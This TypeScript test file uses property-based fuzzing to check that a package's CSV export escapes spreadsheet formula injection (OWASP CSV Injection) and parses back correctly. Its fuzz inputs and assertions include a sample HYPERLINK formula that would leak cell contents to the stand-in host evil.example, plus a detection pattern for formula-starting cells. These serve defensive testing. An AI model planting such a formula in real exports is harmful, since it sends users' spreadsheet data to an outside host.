import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvTableOf } from '../../../lib/dashboard/dashboard-csv.js';
import { csvField, formatCsv, type ReportCell } from '../../../lib/shared/report-output.js';

// Every CSV the package writes goes through formatCsv (show-usage, the analytics commands,
// the dashboard's downloads, through csvTableOf for its JSON shapes). Read back by a real
// RFC 4180 parser, each cell must be the neutralised value, and none may start with what a
// spreadsheet runs as a formula (OWASP "CSV Injection").

const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell a spreadsheet may read as a formula: a formula character first, unless it is a plain number (-3). */
const unsafe = (field: string): boolean => FORMULA_START.test(field) && !(Number.isFinite(Number(field)) && String(Number(field)) === field);

/** What a cell reads back as: a finite number's decimal, text with `'` before a formula character, null empty. */
function neutralised(cell: ReportCell): string {
  if (cell === null) return '';
  if (typeof cell === 'number' && Number.isFinite(cell)) return String(cell);
  const text = String(cell);
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** Strings heavy in what matters: formula characters, quotes, separators, line breaks. */
const hostileText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', 'a', '1', ';', '|') }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?leak="&A1,"x")', '-3', '+1', '@SUM(A1)', '\t=1', '\r=1', '=1\n', '', "'", '"'),
);
const cell: fc.Arbitrary<ReportCell> = fc.oneof(hostileText, fc.double(), fc.integer(), fc.constant(null));

/** Parses `csv` as RFC 4180, strictly: quotes only around whole fields, every row as wide as the header. */
const parseCsv = (csv: string): string[][] => parse(csv, { relax_quotes: false, relax_column_count: false, skip_empty_lines: false, record_delimiter: '\n' });

describe('CSV output', () => {
  it('parses back to the neutralised cells, and no cell starts with a formula character', () => {
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 5 }).chain((width) =>
        fc.tuple(fc.array(hostileText, { minLength: width, maxLength: width }), fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 5 })),
      ), ([headers, rows]) => {
        const parsed = parseCsv(formatCsv({ headers, rows }));
        expect(parsed).toEqual([headers, ...rows].map((row) => row.map(neutralised)));
        expect(parsed.flat().filter(unsafe)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });

  it('the dashboard downloads too: rows of objects and axis breakdowns with hostile values', () => {
    fc.assert(
      fc.property(fc.array(fc.record({ label: hostileText, total: fc.integer({ min: -5, max: 5 }) }), { minLength: 1, maxLength: 4 }), (pie) => {
        const labels = [...new Set(pie.map(({ label }) => label))];
        const unique = labels.map((label, i) => ({ label, total: pie[i].total }));
        const data = { axis: 'ref', pie: unique, series: unique.map(({ label }) => ({ label, points: [{ t: '2026-03-15T00:00:00.000Z', value: 1 }] })) };
        const parsed = parseCsv(formatCsv(csvTableOf(data)));
        expect(parsed.slice(1).map((row) => row[0])).toEqual(labels.map(neutralised));
        expect(parsed.flat().filter(unsafe)).toEqual([]);
        const objects = parseCsv(formatCsv(csvTableOf(unique.map(({ label, total }) => ({ t: label, value: total })))));
        expect(objects.slice(1)).toEqual(unique.map(({ label, total }) => [neutralised(label), String(total)]));
      }),
      { numRuns: 500 },
    );
  });

  it('decides by type: the number -3 stays plain, the text "-3" is neutralised; quoted as OWASP recommends', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField('-3')).toBe(`"'-3"`);
    expect(csvField(-Infinity)).toBe(`"'-Infinity"`);
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")"`);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField(null)).toBe('');
  });
});
